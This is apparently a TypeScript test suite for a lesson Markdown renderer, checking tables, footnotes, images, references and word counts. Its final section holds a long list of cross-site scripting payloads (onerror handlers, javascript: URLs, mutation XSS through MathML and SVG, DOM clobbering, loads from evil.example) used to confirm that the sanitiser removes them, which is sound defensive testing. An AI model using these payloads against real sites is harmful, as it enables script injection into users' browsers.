import fc from 'fast-check';
import type { Element, Nodes } from 'hast';
import rehypeRaw from 'rehype-raw';
import { unified } from 'unified';
import {
  parseMarkdown,
  referencesIn,
  relativePath,
  renderMarkdown,
  topHeadingsIn,
} from '../../../publishing/markdown/markdown.ts';

function render(markdown: string) {
  return renderMarkdown(
    parseMarkdown(markdown),
    (path) => `lectern-asset:courses/sound/${path.replaceAll(/\W/g, '')}.png`,
  );
}

describe('the HTML of a lesson', () => {
  it('has tables with alignment, as in GitHub Flavored Markdown', () => {
    const { html } = render('| Level | Time |\n| :-: | --: |\n| 85 dB | 8 h |');
    expect(html).toContain('<th align="center">Level</th>');
    expect(html).toContain('<td align="right">8 h</td>');
  });

  it('names the language of a code block', () => {
    expect(render('```python\nprint("<b>")\n```').html).toBe(
      '<pre><code class="language-python">print("&#x3C;b>")\n</code></pre>',
    );
  });

  it('has task lists with disabled checkboxes', () => {
    expect(render('- [x] listen\n- [ ] write').html).toContain('<input type="checkbox" checked disabled> listen');
  });

  it('links footnotes in both directions', () => {
    const { html } = render('Sound[^1].\n\n[^1]: It moves the air.');
    expect(html).toContain('href="#user-content-fn-1" id="user-content-fnref-1"');
    expect(html).toContain('<li id="user-content-fn-1">');
    expect(html).toContain('href="#user-content-fnref-1"');
  });

  it('keeps struck text, links and bare URLs', () => {
    const { html } = render('~~no~~ [site](https://example.com/?a=1&b=2 "Title") www.example.org <ada@example.com>');
    expect(html).toContain('<del>no</del>');
    expect(html).toContain('<a href="https://example.com/?a=1&#x26;b=2" title="Title">site</a>');
    expect(html).toContain('<a href="http://www.example.org">www.example.org</a>');
    expect(html).toContain('<a href="mailto:ada@example.com">');
  });

  it('keeps links to lessons for the app to resolve', () => {
    expect(render('[ear](lesson:the-ear)').html).toBe('<p><a href="lesson:the-ear">ear</a></p>');
  });

  it.each(['lesson:The-Ear', 'lesson:../admin', 'lesson:a--b', 'lesson:the-ear/x', 'lesson:', 'LESSON:the-ear'])(
    'takes the address from %s, which is no id of a lesson',
    (target) => {
      expect(render(`[ear](${target})`).html).toBe('<p><a>ear</a></p>');
    },
  );

  it('keeps harmless HTML tags', () => {
    expect(
      render('H<sub>2</sub>O <kbd>Ctrl</kbd>\n\n<details><summary>More</summary>\n\ntext\n\n</details>').html,
    ).toBe('<p>H<sub>2</sub>O <kbd>Ctrl</kbd></p>\n<details><summary>More</summary>\n<p>text</p>\n</details>');
  });
});

describe('the excerpt of a lesson', () => {
  it('is the whole HTML if that is short', () => {
    const { html, excerpt } = render('One.\n\n> Two.\n\n![a wave](media/wave.png)');
    expect(excerpt).toBe(html);
  });

  it('consists of whole blocks, as many as fit into 4,000 bytes', () => {
    const paragraph = 'é'.repeat(600);
    const { html, excerpt } = render(Array.from({ length: 5 }, () => paragraph).join('\n\n'));
    expect(html.split('<p>')).toHaveLength(6);
    expect(excerpt).toBe(Array.from({ length: 3 }, () => `<p>${paragraph}</p>`).join('\n'));
  });

  it('is empty if the first block is longer', () => {
    expect(render('long '.repeat(1000)).excerpt).toBe('');
  });
});

describe('images', () => {
  it('become references, in the HTML and in the Markdown', () => {
    expect(render('Look: ![the *ear*](media/ear.png "An ear") there')).toMatchObject({
      markdown: 'Look: ![the *ear*](lectern-asset:courses/sound/mediaearpng.png "An ear") there',
      html: '<p>Look: <img src="lectern-asset:courses/sound/mediaearpng.png" alt="the ear" title="An ear"> there</p>',
    });
  });

  it('may have spaces in their names, escaped or not', () => {
    const { markdown, html } = render('![a](<media/my ear.png>) ![b](media/my%20ear.png)');
    expect(markdown).toBe(
      '![a](lectern-asset:courses/sound/mediamyearpng.png) ![b](lectern-asset:courses/sound/mediamyearpng.png)',
    );
    expect(html.match(/src="lectern-asset:courses\/sound\/mediamyearpng\.png"/g)).toHaveLength(2);
  });

  it('are mapped once, in their definition', () => {
    const { markdown, html } = render('![one][ear] ![two][ear]\n\n[ear]: media/ear.png\n[ear]: media/other.png');
    expect(markdown).toContain('[ear]: lectern-asset:courses/sound/mediaearpng.png\n[ear]: media/other.png');
    expect(html.match(/src="lectern-asset:/g)).toHaveLength(2);
  });

  it('stay unchanged in code and on other servers', () => {
    const markdown = '`![a](media/a.png)` ![b](https://example.com/b.png)\n\n```\n![c](media/c.png)\n```';
    expect(render(markdown).markdown).toBe(markdown);
  });

  it.each([
    ['media/a.png', 'media/a.png'],
    ['media/100%.png', 'media/100%.png'],
    ['..%2Fsecret.png', '../secret.png'],
    ['https://example.com/a.png', null],
    ['//example.com/a.png', null],
    ['/a.png', null],
    ['data:image/png;base64,AA', null],
    ['#a', null],
    ['', null],
  ])('have in %j the path %j', (target, path) => {
    expect(relativePath(target)).toBe(path);
  });
});

describe('the references in a text', () => {
  it('have the place of each URL', () => {
    const text = parseMarkdown(
      'A [link](lesson:ear)\nand ![a *b*](media/a.png).\n\n> - <https://example.com>\n>   [x][y]\n\n[y]: lesson:nose\n',
    );
    expect(referencesIn(text)).toEqual([
      { kind: 'link', target: 'lesson:ear', place: { line: 1, column: 10 }, inHtml: false },
      { kind: 'image', target: 'media/a.png', place: { line: 2, column: 14 }, inHtml: false },
      { kind: 'link', target: 'https://example.com', place: { line: 4, column: 5 }, inHtml: false },
      { kind: 'link', target: 'lesson:nose', place: { line: 7, column: 6 }, inHtml: false },
    ]);
  });

  it('include those in HTML', () => {
    const text = parseMarkdown('An <a href="lesson:ear">ear</a>.\n\n<p>\n  <img src="media/a.png">\n</p>');
    expect(referencesIn(text)).toEqual([
      { kind: 'link', target: 'lesson:ear', place: { line: 1, column: 4 }, inHtml: true },
      { kind: 'image', target: 'media/a.png', place: { line: 4, column: 3 }, inHtml: true },
    ]);
  });

  it('do not include code', () => {
    expect(referencesIn(parseMarkdown('`[a](lesson:x)`\n\n    [b](lesson:y)'))).toEqual([]);
  });

  it('come with the level-1 headings', () => {
    const text = parseMarkdown('## Fine\n\n# Not fine\n\nNeither\n===\n\n<h1>Nor this</h1>');
    expect(topHeadingsIn(text)).toEqual([
      { line: 3, column: 1 },
      { line: 5, column: 1 },
      { line: 8, column: 1 },
    ]);
  });
});

describe('the words of a text', () => {
  it.each([
    ['Sound is *what* moves the air.', 6],
    ['un*believ*able', 1],
    ["don't, well-kept, 3.14", 3],
    ['- one\n- two\n\n| a | b |\n| - | - |\n| c | d |', 6],
    ['`let x = 1`', 3],
    ['![not read](media/a.png) [read](https://example.com)', 1],
    ['<p hidden>tags</p>', 0],
    ['音は空気を動かす', 5],
    ['', 0],
  ])('in %j are %d', (markdown, words) => {
    expect(render(markdown).wordCount).toBe(words);
  });
});

/** Written down apart from the sanitiser's own list, so that a slip there shows here. */
const HARMLESS_TAGS = new Set(
  `a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h2 h3 h4
   h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp section small span strike strong sub summary sup table
   tbody td tfoot th thead time tr tt u ul var wbr`.split(/\s+/),
);
const HARMLESS_ATTRIBUTES = new Set(
  `abbr align alt ariaDescribedBy ariaLabel checked className colSpan dataFootnoteBackref dataFootnoteRef dataFootnotes
   dateTime dir disabled height href id lang open reversed rowSpan scope span src start title type value width`.split(
    /\s+/,
  ),
);
const HARMLESS_CLASS =
  /^(?:language-.+|math-inline|math-display|sr-only|footnotes|data-footnote-backref|task-list-item|contains-task-list|markdown-alert(?:-[a-z]+)?)$/;

/** Of MathML, what neither loads nor runs anything, and has no place for HTML (HTML standard, "text integration point"). */
const HARMLESS_MATHML = new Set(
  `annotation math menclose merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace
   msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover none semantics`.split(/\s+/),
);
const HARMFUL_IN_MATHML = /^(?:on|xlink|xmlns|href|src|style|id|actiontype|definitionURL|name)/i;

const SCRIPT = 'alert(1)';
const PAYLOADS = [
  `<script>${SCRIPT}</script>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<img src="x" / onerror="${SCRIPT}">`,
  `<img/src=x/onerror=${SCRIPT}//`,
  `<img src=x onerror\n=\n${SCRIPT}>`,
  `<img srcset="https://evil.example/x 1x">`,
  `<img src="javascript:${SCRIPT}">`,
  `<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
  `<svg onload=${SCRIPT}>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><a xlink:href="javascript:${SCRIPT}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${SCRIPT}</script>"></foreignObject></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${SCRIPT}</script>">`,
  `<form action="javascript:${SCRIPT}"><input type=submit></form>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<li><input type="image" src="javascript:${SCRIPT}" formaction="javascript:${SCRIPT}">`,
  `<button formaction="javascript:${SCRIPT}">x</button>`,
  `<select onfocus=${SCRIPT} autofocus><option>x</select>`,
  `<textarea onfocus=${SCRIPT} autofocus></textarea><img src=x onerror=${SCRIPT}>`,
  `<iframe src="javascript:${SCRIPT}"></iframe>`,
  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
  `<object data="javascript:${SCRIPT}"></object>`,
  `<embed src="javascript:${SCRIPT}">`,
  `<base href="javascript:${SCRIPT}//">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style><img src="</style><img src=x onerror=${SCRIPT}>">`,
  `<div style="background:url(javascript:${SCRIPT})">x</div>`,
  `<p style="position:fixed;inset:0">x</p>`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `<a href="JaVaScRiPt:${SCRIPT}">x</a>`,
  `<a href=" javascript:${SCRIPT}">x</a>`,
  `<a href="java\tscript:${SCRIPT}">x</a>`,
  `<a href="&#106;&#97;vascript:${SCRIPT}">x</a>`,
  `<a href="&#x01;javascript:${SCRIPT}">x</a>`,
  `<a href="javascript&colon;${SCRIPT}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${SCRIPT}</script>">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="/logout">x</a>`,
  `<a href="https://example.com" target=_blank onclick=${SCRIPT} ping="https://evil.example">x</a>`,
  `<a id="config" name="config" href="#x">x</a>`,
  `<img name="getElementById" id="cookie">`,
  `[x](javascript:${SCRIPT})`,
  `[x](<java\nscript:${SCRIPT}>)`,
  `[x](&#x6A;avascript:${SCRIPT})`,
  `[x](vbscript:x)`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x]: javascript:${SCRIPT}\n\n[x]`,
  `<javascript:${SCRIPT}>`,
  `![x](javascript:${SCRIPT})`,
  `![x](data:image/svg+xml,<svg/onload=${SCRIPT}>)`,
  `![x](https://example.com/"onerror="${SCRIPT})`,
  `![x" onerror="${SCRIPT}](media/a.png)`,
  `[x](https://example.com "\\" onmouseover=\\"${SCRIPT}")`,
  `\`\`\`"onmouseover="${SCRIPT}\nx\n\`\`\``,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>"></noscript>`,
  `<template><img src=x onerror=${SCRIPT}></template>`,
  `<title><img src=x onerror=${SCRIPT}></title>`,
  `<xmp><img src=x onerror=${SCRIPT}></xmp>`,
  `<plaintext><img src=x onerror=${SCRIPT}>`,
  `<!--><img src=x onerror=${SCRIPT}>-->`,
  `<![CDATA[<img src=x onerror=${SCRIPT}>]]>`,
  `<?xml-stylesheet href="javascript:${SCRIPT}"?>`,
  `<table><td><script>${SCRIPT}</script></table>`,
  `<details open ontoggle=${SCRIPT}>x</details>`,
  `<video><source onerror=${SCRIPT}></video><audio src=x onerror=${SCRIPT}>`,
  `<marquee onstart=${SCRIPT}>x</marquee>`,
  `<picture><source srcset="https://evil.example/x"><img></picture>`,
  `<x-app onclick=${SCRIPT}>x</x-app>`,
  `<p slot="x" is="x-app" part="x" itemprop="x" contenteditable>x</p>`,
  `<q cite="javascript:${SCRIPT}">x</q>`,
  `<body onload=${SCRIPT}>`,
  `<isindex action="javascript:${SCRIPT}">`,
  // Formulas: commands of TeX that make links, attributes and HTML, and MathML that changes how the rest is read.
  `$\\href{javascript:${SCRIPT}}{x}$`,
  `$\\url{javascript:${SCRIPT}}$ $\\includegraphics{https://evil.example/x.png}$`,
  `$\\htmlData{x=y}{x}$ $\\htmlId{config}{x}$ $\\class{evil}{x}$ $\\style{position:fixed}{x}$ $\\id{config}{x}$`,
  `$\\text{</mtext><img src=x onerror=${SCRIPT}>}$`,
  `$\\text{</annotation></semantics></math><script>${SCRIPT}</script>}$`,
  `$$\n</math><img src=x onerror=${SCRIPT}>\n$$`,
  `\`\`\`math\n</code></pre><img src=x onerror=${SCRIPT}>\n\`\`\``,
  `$\\color{red;background:url(https://evil.example/x)}{x}$ $\\color{red" onload="${SCRIPT}}{x}$`,
  `$\\rule{1e9em}{1e9em}$ $\\def\\a{\\a\\a}\\a$`,
  `<code class="language-math math-inline">\\href{javascript:${SCRIPT}}{x}</code>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${SCRIPT}></style></annotation-xml></math>`,
  `<math><mi><malignmark><style><!--</style><img src=x onerror=${SCRIPT}>--></mi></math>`,
  `<math href="javascript:${SCRIPT}">x</math><math><maction actiontype="statusline" xlink:href="javascript:${SCRIPT}">x`,
  // Frames and media.
  `<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>${SCRIPT}</script>" onload=${SCRIPT} name=opener></iframe>`,
  `<iframe src="https://www.youtube.com/embed/abc/../../logout" title="<img src=x onerror=${SCRIPT}>"></iframe>`,
  `<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>`,
  `<iframe src="https://www.youtube.com@evil.example/embed/abc"></iframe>`,
  `<iframe src="//evil.example"></iframe><iframe src="data:text/html,<script>${SCRIPT}</script>"></iframe>`,
  `<video src="javascript:${SCRIPT}" poster="https://evil.example/x"><track src="https://evil.example/x.vtt"></video>`,
  `<audio><source src="javascript:${SCRIPT}"></audio><video autoplay><source src="data:text/html,x"></video>`,
  // Ids and names.
  `## config {#__proto__}\n\n## x {#document}\n\n## y {#"onclick=${SCRIPT}}`,
  `<h2 id=getElementById name=body>x</h2><img name=cookie id=location><a id=x name=constructor></a>`,
  `<form id=x><output name=innerHTML></form><p id="user-content-x" id="y">z</p>`,
  `<a id="&#x9;app" href="#app">x</a> [x](#__proto__) [y](#"onclick=${SCRIPT})`,
  `<p aria-describedby=app aria-labelledby=app role=alertdialog aria-hidden=true>x</p>`,
  // Addresses.
  `[x](lesson:a#"onclick=${SCRIPT}) <a href="lesson:a#b#javascript:${SCRIPT}">x</a> [x](lesson://evil.example)`,
  `[x](tel:+1"onclick=${SCRIPT}) [x](tel://evil.example) <a href="tel:javascript:${SCRIPT}">x</a>`,
  `<a href="http:javascript:${SCRIPT}">x</a> <a href="https:evil">x</a> <a href="\\\\evil.example">x</a>`,
  `<a href="&NewLine;javascript:${SCRIPT}">x</a> <a href="\u00a0javascript:${SCRIPT}">x</a>`,
  `<img src="//evil.example/x" srcset="https://evil.example/y"><img src="http://evil.example/x" loading=eager lowsrc=x>`,
  // Classes, sizes and styles with which a text could look like the app, or cover it.
  `<div class="modal fixed markdown-alert"><p class="markdown-alert-title btn" style="inset:0">x</p></div>`,
  `<code class="language-js app-header">x</code><pre class=toast>x</pre><span class=tml-tag>x</span>`,
  `<img src="https://example.com/x.png" width="99999999px;position:fixed" height="100vh" align="absmiddle;x">`,
  `> [!NOTE]<script>${SCRIPT}</script>\n> <img src=x onerror=${SCRIPT}>`,
  `> [!WARNING]\n> x\n{.app-header #app}`,
  `\`\`\`{.app-header #app onclick=${SCRIPT}} title="><img src=x onerror=${SCRIPT}>"\nx\n\`\`\``,
  // Text that one parser reads in another way than the next: mutation of what was clean.
  `<table><caption><math><mtext></caption><style><img src=x onerror=${SCRIPT}></style></table>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${SCRIPT}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${SCRIPT}>"></noembed>`,
  `<figure><figcaption><template><figcaption><script>${SCRIPT}</script></figure>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${SCRIPT}>`,
  `<select><template><noscript></select><img src=x onerror=${SCRIPT}></noscript>`,
  `<dl><dt><dialog open><button popovertarget=x>y</button></dialog></dl><p popover id=x>z</p>`,
  `: <img src=x onerror=${SCRIPT}>\n\nTerm <script>${SCRIPT}</script>\n: <svg onload=${SCRIPT}>`,
  `:smile:<script>${SCRIPT}</script>:__proto__: :constructor:`,
] as const;

describe('sanitizing', () => {
  it.each(PAYLOADS)('removes everything that runs or loads from %j', (payload) => {
    expect(harmIn(render(payload).html)).toEqual([]);
    expect(harmIn(render(`Before.\n\n${payload}\n\nAfter.`).html)).toEqual([]);
  });

  it('holds for all combinations of them', () => {
    const wrapping = fc.constantFrom(
      '',
      '\n\n',
      ' ',
      '> ',
      '- ',
      '| a |\n| - |\n| ',
      '`',
      '**',
      '[^1]: ',
      '<div>',
      '</div>',
      '<table>',
      '<!--',
      '-->',
      '"',
      "'",
      '<',
    );
    const document = fc.array(fc.oneof(fc.constantFrom(...PAYLOADS), wrapping, fc.string({ maxLength: 8 })), {
      maxLength: 8,
    });
    fc.assert(
      fc.property(document, (parts) => {
        expect(harmIn(render(parts.join('')).html)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});

/** Everything in HTML, read as a browser reads it, that a lesson must not have. */
function harmIn(html: string): string[] {
  const tree = unified()
    .use(rehypeRaw)
    .runSync({ type: 'root', children: [{ type: 'raw', value: html }] });
  const formulas = [...elementsOf(tree)].filter(({ tagName }) => tagName === 'math');
  const inFormulas = new Set(formulas.flatMap((formula) => [...elementsOf(formula)]));
  return [...elementsOf(tree)].flatMap((element) => {
    if (inFormulas.has(element)) return harmInFormula(element);
    return [
      ...(HARMLESS_TAGS.has(element.tagName) ? [] : [`<${element.tagName}>`]),
      ...(element.tagName === 'input' ? harmInCheckbox(element) : []),
      ...Object.entries(element.properties).flatMap(([name, value]) =>
        isHarmless(element.tagName, name, value) ? [] : [`<${element.tagName} ${name}=${JSON.stringify(value)}>`],
      ),
    ];
  });
}

function harmInFormula({ tagName, properties }: Element): string[] {
  const harmful = Object.keys(properties).filter((name) => HARMFUL_IN_MATHML.test(name));
  const classes = [properties['className'] ?? []].flat();
  return [
    ...(HARMLESS_MATHML.has(tagName) ? [] : [`<${tagName}> in <math>`]),
    ...harmful.map((name) => `<${tagName} ${name}> in <math>`),
    ...classes.filter((name) => !/^(?:tml-|chr-|wbk-|math|upstrike|downstrike)/.test(String(name))).map(String),
  ];
}

function harmInCheckbox({ properties }: Element): string[] {
  return properties['type'] === 'checkbox' && properties['disabled'] === true ? [] : ['an input that can be used'];
}

function isHarmless(tag: string, name: string, value: unknown): boolean {
  if (!HARMLESS_ATTRIBUTES.has(name)) return false;
  if (name === 'href')
    return (
      tag === 'a' &&
      /^(?:https?:\/\/|mailto:|tel:[-+\d().;=a-z]+$|(?:lesson:[a-z0-9-]+)?(?:#user-content-[^\s#]+)?$)/i.test(
        String(value),
      )
    );
  if (name === 'src') return tag === 'img' && /^(?:https:\/\/|lectern-asset:)/i.test(String(value));
  if (name === 'id' || name === 'ariaDescribedBy')
    return [value].flat().every((id) => /^user-content-\S+$/.test(String(id)));
  if (name === 'dir') return ['ltr', 'rtl', 'auto'].includes(String(value));
  if (name === 'className') return Array.isArray(value) && value.every((item) => HARMLESS_CLASS.test(String(item)));
  return true;
}

function* elementsOf(node: Nodes): Generator<Element> {
  if (node.type === 'element') yield node;
  if ('children' in node) for (const child of node.children) yield* elementsOf(child);
}
